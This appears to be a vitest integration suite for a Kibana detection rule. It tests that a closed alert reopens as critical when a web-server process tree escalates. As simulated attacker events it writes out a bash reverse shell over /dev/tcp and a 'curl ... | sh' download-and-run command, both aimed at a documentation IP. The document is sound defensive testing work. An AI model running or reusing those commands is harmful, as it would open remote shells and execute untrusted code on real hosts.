import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { z } from 'zod';
import { findAlerts, type AlertPage } from '../../common/api/find_alerts';
import { setAlertStatus } from '../../common/api/set_alert_status';
import { extendedRule } from '../../common/rule/extended_rule';
import { toShippedParams, type RuleParams } from '../../common/rule/rule_params';
import type { Kibana } from './kibana';
import { createConnector, createRuleCopy, getBody } from './rule_copy';
import { runAgain } from './run_again';
import { until } from './until';

const MINUTES_3 = 180_000;
const EVENTS = 'logs-endpoint.events.process-default';
const MESSAGES = 'messages-of-risen-trees';
/** The events of this suite are of a host that no other suite knows. */
const HOST = `rising-${randomUUID().slice(0, 8)}`;
const WORKER = {
  entity_id: `${HOST}-worker`,
  executable: '/usr/sbin/php-fpm8.2',
  name: 'php-fpm8.2',
  args: ['php-fpm: pool www'],
};

const messageSchema = z.object({ host: z.string(), group: z.string(), text: z.string() });
type Message = z.infer<typeof messageSchema>;
const foundSchema = z.object({
  hits: z.object({ hits: z.array(z.object({ _source: messageSchema })) }),
});

/** What becomes graver after its alert was closed: told again, by the actions that want to hear of it. */
export const risenSuite = (kibana: Kibana): void => {
  let ruleId: string;

  const askElasticsearch = async (method: string, path: string, body?: object): Promise<unknown> =>
    getBody(
      await kibana.ask(`/api/console/proxy?method=${method}&path=${encodeURIComponent(path)}`, {
        method: 'POST',
        body,
      })
    );

  const addStart = (name: string, text: string, parent: object, ancestry: readonly string[]) =>
    askElasticsearch('POST', `${EVENTS}/_doc?refresh=true`, {
      '@timestamp': new Date().toISOString(),
      ecs: { version: '8.10.0' },
      event: { kind: 'event', category: ['process'], type: ['start'], action: 'exec', id: name },
      host: { id: HOST, name: HOST, os: { type: 'linux' } },
      user: { id: '33', name: 'www-data' },
      process: {
        entity_id: `${HOST}-${name}`,
        executable: '/usr/bin/dash',
        name: 'dash',
        args: ['sh', '-c', text],
        args_count: 3,
        command_line: `sh -c ${text}`,
        parent,
        Ext: { ancestry },
      },
    });

  const readMessages = async (): Promise<Message[]> => {
    const found = await askElasticsearch(
      'GET',
      `${MESSAGES}/_search?size=50&ignore_unavailable=true`
    );
    return foundSchema
      .parse(found)
      .hits.hits.map(({ _source }) => _source)
      .filter(({ host }) => host === HOST);
  };
  const awaitMessages = (count: number): Promise<Message[]> =>
    until(`${count} messages of the tree`, 120, async () => {
      const messages = await readMessages();
      return messages.length >= count ? messages : undefined;
    });
  const findAlertsOfHost = (): Promise<AlertPage> =>
    kibana.call(findAlerts, { body: { hosts: [HOST], sortField: 'severity' } });

  beforeAll(async () => {
    const index = await createConnector(kibana, '.index', { index: MESSAGES });
    const document = { host: '{{context.host}}', group: '{{alert.actionGroup}}' };
    const toAction = (group: string) => ({
      id: index,
      group,
      params: { documents: [{ ...document, text: '{{context.command}} | {{context.tree}}' }] },
      frequency: { summary: false, notify_when: 'onActionGroupChange', throttle: null },
    });
    const params: RuleParams = {
      ...toShippedParams(extendedRule),
      lookBack: '1h',
      exceptions: [
        {
          id: 'others',
          query: `any where host.name != "${HOST}"`,
          comment: 'Only what this test adds.',
          at: new Date().toISOString(),
        },
      ],
    };
    await addStart('root', 'w', WORKER, [WORKER.entity_id]);
    const actions = [toAction('match'), toAction('severity_rose')];
    ruleId = await createRuleCopy(kibana, actions, params);
  }, MINUTES_3);

  afterAll(async () => {
    await kibana.ask(`/api/alerting/rule/${ruleId}`, { method: 'DELETE' });
    await askElasticsearch('POST', `${EVENTS}/_delete_by_query?refresh=true`, {
      query: { term: { 'host.name': HOST } },
    });
  });

  test(
    'a closed alert comes back when its tree becomes graver, and its actions are those of a rise',
    async () => {
      expect(await awaitMessages(1)).toMatchObject([{ group: 'match' }]);
      // Where the app's own rule is on it has found the same tree: one row, as soon as its next run has folded them.
      const { alerts: before } = await findAlertsOfHost();
      expect(before.length).toBeGreaterThan(0);
      expect(before.map(({ severity }) => severity)).not.toContain('critical');
      const ids = before.map(({ id }) => id);
      await kibana.call(setAlertStatus, { body: { ids, status: 'closed' } });

      const shell = { entity_id: `${HOST}-root`, name: 'dash', executable: '/usr/bin/dash' };
      const parent = { ...shell, args: ['sh', '-c', 'w'] };
      const ancestry = [`${HOST}-root`, WORKER.entity_id];
      await addStart('shell', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1', parent, ancestry);
      // Runs look at a known tree again once a minute.
      const messages = await until('news of the tree', 150, async () => {
        await runAgain(kibana, ruleId);
        const told = await readMessages();
        return told.length > 1 ? told : undefined;
      });
      expect(messages.map(({ group }) => group).sort()).toEqual(['match', 'severity_rose']);
      expect(messages.find(({ group }) => group === 'severity_rose')?.text).toContain('/dev/tcp/');

      const { alerts: after } = await findAlertsOfHost();
      expect(after[0]).toMatchObject({ status: 'open', severity: 'critical' });
    },
    MINUTES_3
  );

  test(
    'a further run of the same tree tells nobody again',
    async () => {
      await runAgain(kibana, ruleId);
      // Another thing that is new says that the run is over.
      const other = { ...WORKER, entity_id: `${HOST}-other` };
      await addStart('other', 'curl http://203.0.113.9/x | sh', other, [other.entity_id]);
      await runAgain(kibana, ruleId);
      const messages = await awaitMessages(3);
      expect(messages.map(({ group }) => group).sort()).toEqual([
        'match',
        'match',
        'severity_rose',
      ]);
    },
    MINUTES_3
  );
};
